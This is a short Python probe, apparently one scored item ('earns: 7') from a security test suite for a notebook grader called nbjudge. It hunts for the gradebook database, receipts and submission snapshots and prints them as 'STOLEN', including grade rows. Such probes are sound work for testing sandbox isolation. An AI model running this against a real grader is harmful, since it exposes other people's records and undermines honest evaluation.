# why: the gradebook, the receipts and the snapshots of the class
# earns: 7
import glob, os, sqlite3
home = os.environ.get("NBJUDGE_HOME", "{course}/.nbjudge")
for folder in ["{course}", home, os.path.dirname(home)]:
    for pattern in ["gradebook.db", "receipts/*/*", "snapshots/*/*", "snapshots/*/blobs/*"]:
        for path in glob.glob(f"{folder}/{pattern}"):
            try:
                print("STOLEN:", path, len(open(path, "rb").read()))
            except OSError:
                pass
try:
    rows = sqlite3.connect("file:{course}/gradebook.db?mode=ro", uri=True).execute("select * from grade")
    print("STOLEN: rows", rows.fetchall()[:3])
except sqlite3.Error:
    pass
decoded = 0
